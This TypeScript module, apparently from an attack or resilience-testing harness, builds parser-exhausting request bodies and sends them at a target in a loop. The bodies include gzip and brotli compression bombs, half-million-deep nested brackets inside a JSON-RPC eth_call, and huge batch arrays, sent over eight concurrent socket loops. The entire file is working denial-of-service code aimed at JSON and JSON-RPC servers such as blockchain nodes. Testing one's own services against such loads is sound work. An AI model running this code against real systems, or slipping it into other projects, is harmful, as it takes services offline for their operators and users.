// Bodies that are cheap to send and expensive to read: deep nesting, high compression, many batch members.
import { brotliCompressSync, gzipSync } from "node:zlib";
import type { Attack, AttackTarget } from "./attack.ts";
import { closed, openAttackSocket, postBytes } from "./sockets.ts";

const AT_ONCE = 8;
const MEBIBYTE = 1 << 20;

type Bomb = { readonly body: Buffer; readonly headers?: string };

const packed = (text: string): Bomb => ({
  body: gzipSync(text),
  headers: "Content-Encoding: gzip\r\n",
});

/** Bodies of one mebibyte, some of them compressed. */
export const BOMBS: Readonly<Record<string, Bomb>> = {
  "packed brackets": packed("[".repeat(MEBIBYTE)),
  "packed objects": packed('{"a":'.repeat(MEBIBYTE / 5)),
  "packed letters": packed(`"${"a".repeat(MEBIBYTE - 2)}"`),
  "letters packed with brotli": {
    body: brotliCompressSync(`"${"a".repeat(MEBIBYTE - 2)}"`),
    headers: "Content-Encoding: br\r\n",
  },
  brackets: { body: Buffer.from("[".repeat(MEBIBYTE)) },
  "closed brackets": {
    body: Buffer.from(
      `{"jsonrpc":"2.0","id":1,"method":"eth_call","params":${"[".repeat(500_000)}${"]".repeat(500_000)}}`,
    ),
  },
  "a batch of nothing": { body: Buffer.from(`[${"1,".repeat(MEBIBYTE / 2 - 1)}1]`) },
};

export const bracketBombs: Attack = {
  name: "bracket bombs",
  run: async (target, signal) => {
    const bombs = Object.values(BOMBS).map((bomb) => bytesOf(target, bomb));
    const strike = async (first: number): Promise<void> => {
      for (let turn = first; !signal.aborted; turn += 1) {
        const socket = openAttackSocket(target, signal);
        socket.resume();
        socket.end(bombs[turn % bombs.length] ?? "");
        await closed(socket);
      }
    };
    await Promise.all(Array.from({ length: AT_ONCE }, (_, first) => strike(first)));
  },
};

const bytesOf = (target: AttackTarget, { body, headers }: Bomb): Buffer =>
  postBytes(target, body, headers);
